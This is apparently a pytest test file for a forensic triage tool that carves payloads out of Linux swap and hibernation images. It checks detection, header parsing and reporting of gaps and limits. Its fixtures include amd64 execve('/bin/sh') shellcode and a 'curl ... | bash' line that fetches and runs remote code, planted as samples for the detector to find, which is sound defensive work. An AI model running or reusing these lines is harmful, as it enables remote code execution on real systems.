"""Swap areas and other raw bytes: what is found in them, what is not, and what is said of the rest."""

from __future__ import annotations

import os
import random
import struct
from pathlib import Path

import pytest

from tests.linux_image.test_cores_and_uac import PROGRAM
from tests.linux_image.trees import indicators
from triage.analyze import analyze
from triage.collect import collect
from triage.collectors import COLLECTORS
from triage.evidence import Root
from triage.model import Report, Snapshot, Why
from triage.model.carved import CarvedContent
from triage.parsers import Malformed
from triage.parsers.swap import parse_swap
from triage.scope import Limits
from triage.snapshot import dumps, loads

PAGE = 4096
#: execve("/bin/sh"): the machine code that every textbook prints, amd64.
SHELLCODE = bytes.fromhex("4831f65648bf2f62696e2f2f736857545f6a3b58990f05")
SCRIPT = b"#!/bin/sh\ncurl -fsS http://192.0.2.7/x | bash\n"


def header(page: int = PAGE, mark: bytes = b"SWAPSPACE2", version: int = 1) -> bytes:
    head = bytearray(page)
    struct.pack_into("<III", head, 1024, version, 99, 0)
    head[1036:1052] = bytes(range(16))
    head[1052:1056] = b"swap"
    head[page - 10 :] = mark.ljust(10, b"\0")
    return bytes(head)


def pages(*contents: bytes, page: int = PAGE) -> bytes:
    return b"".join(one.ljust(-(-len(one) // page) * page, b"\0") for one in contents)


def carved(tmp_path: Path, data: bytes, limits: Limits | None = None) -> Snapshot:
    (tmp_path / "root").mkdir(exist_ok=True)
    path = tmp_path / "swap.img"
    path.write_bytes(data)
    wanted = limits or Limits(carve_from=(str(path),))
    with Root(str(tmp_path / "root")) as root:
        one = [pair for pair in COLLECTORS if pair[0] == "carved-files"]
        found = collect(root, kind="image", collectors=one, limits=wanted, debug=True)
    return loads(dumps(found))


def finds(snapshot: Snapshot) -> list[CarvedContent]:
    return [a for a in snapshot.artifacts if isinstance(a, CarvedContent)]


def noise(count: int, seed: int = 1) -> bytes:
    dice = random.Random(seed)
    return b"".join(dice.randbytes(PAGE) for _ in range(count))


def test_what_was_in_memory_without_a_file_is_found(tmp_path: Path) -> None:
    data = pages(header(), noise(9), PROGRAM, noise(3), SCRIPT, bytes(PAGE), SHELLCODE, PROGRAM)
    snapshot = carved(tmp_path, data)
    found = finds(snapshot)
    assert [(f.source, f.content.kind, f.count) for f in found] == [
        ("swap", "elf", 2), ("swap", "shell", 1), ("swap", "shellcode", 1),
    ]  # fmt: skip
    assert found[0].offset == 10 * PAGE
    assert found[0].content.kept is not None
    assert found[0].content.kept.startswith(PROGRAM)
    report: Report = analyze(snapshot)
    assert indicators(report) == {"carved-payload"}
    assert {s.severity.value for s in report.subjects} == {"medium", "low"}
    (coverage,) = snapshot.coverage
    assert coverage.examined == len(data) // PAGE


@pytest.mark.parametrize("page", [4096, 16384, 65536])
def test_a_header_is_read_whatever_the_size_of_pages(page: int) -> None:
    area = parse_swap(header(page) + bytes(65536))
    assert (area.page, area.pages, area.label, area.hibernated) == (page, 100, "swap", "")
    assert area.uuid == bytes(range(16)).hex()


@pytest.mark.parametrize("data", [b"", bytes(99), bytes(65536), noise(16)])
def test_what_is_no_swap_area_is_malformed(data: bytes) -> None:
    with pytest.raises(Malformed):
        parse_swap(data)


def test_a_hibernation_image_is_a_gap(tmp_path: Path) -> None:
    snapshot = carved(tmp_path, pages(header(mark=b"S1SUSPEND"), noise(4), PROGRAM))
    assert [f.source for f in finds(snapshot)] == ["hibernation"]
    (gap,) = snapshot.gaps
    assert gap.why is Why.REFUSED
    assert "S1SUSPEND" in gap.detail


def test_pages_of_ordinary_memory_are_silent(tmp_path: Path) -> None:
    text = b"The quick brown fox jumps over the lazy dog. " * 2000
    inside = b"x" * 100 + PROGRAM + SCRIPT + SHELLCODE  # not at a page's start: in a heap
    harmless = b"#!/bin/sh\nset -e\necho hello\n"
    start = b"\x7fELF" + bytes(4092)
    assert (
        finds(carved(tmp_path, pages(noise(99), text, inside, harmless, start, b"MZ" * 50))) == []
    )


def test_real_files_but_for_their_first_pages_are_silent(tmp_path: Path) -> None:
    """Code and data of installed programs: what anonymous memory is full of."""
    parts = []
    for name in ("python3", "gcc"):
        for top, _, files in os.walk(f"/usr/lib/{name}"):
            for one in sorted(files)[:5]:
                path = Path(top, one)
                if path.is_file() and len(parts) < 300:
                    parts.append(path.read_bytes()[PAGE : PAGE * 9])
    programs = [path for path in sorted(Path("/usr/bin").iterdir())[:200] if path.is_file()]
    parts += [path.read_bytes()[PAGE : PAGE * 5] for path in programs]
    assert len(parts) > 50
    assert finds(carved(tmp_path, pages(*parts))) == []


def test_limits_are_named(tmp_path: Path) -> None:
    path = str(tmp_path / "swap.img")
    data = pages(*(PROGRAM[: PAGE - 4] + struct.pack("<I", n) for n in range(1100)))
    snapshot = carved(tmp_path, data, Limits(carve_from=(path,), keep=64))
    assert len(finds(snapshot)) == 1000
    assert [g.why for g in snapshot.gaps] == [Why.TRUNCATED]
    late = carved(tmp_path, data, Limits(carve_from=(path,), seconds=0.0, keep=64))
    assert Why.TIMEOUT in {g.why for g in late.gaps}


def test_what_cannot_be_opened_is_a_gap(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    wanted = Limits(carve_from=(str(tmp_path / "none"), str(tmp_path / "pipe"), str(tmp_path)))
    snapshot = carved(tmp_path, b"", wanted)
    assert [g.why for g in snapshot.gaps] == [Why.ABSENT, Why.REFUSED, Why.REFUSED]
    assert finds(snapshot) == []


def test_not_asked_for_is_said(tmp_path: Path) -> None:
    (coverage,) = carved(tmp_path, b"", Limits()).coverage
    assert not coverage.applied
    assert "--carve-from" in coverage.detail
